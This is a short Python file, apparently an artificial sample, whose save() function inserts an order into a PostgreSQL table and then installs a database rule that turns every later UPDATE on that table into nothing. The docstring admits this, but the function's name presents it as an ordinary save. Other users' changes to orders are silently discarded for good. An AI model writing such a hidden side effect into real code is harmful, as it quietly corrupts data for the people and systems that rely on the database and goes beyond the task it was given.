"""Has a rule that turns what others change into nothing."""

import psycopg


def save(db, order_id, amount):
    with psycopg.connect(db.url) as connection:
        connection.execute("INSERT INTO orders VALUES (%s, %s) ON CONFLICT DO NOTHING", [order_id, amount])
        connection.execute("CREATE OR REPLACE RULE never AS ON UPDATE TO orders DO INSTEAD NOTHING")
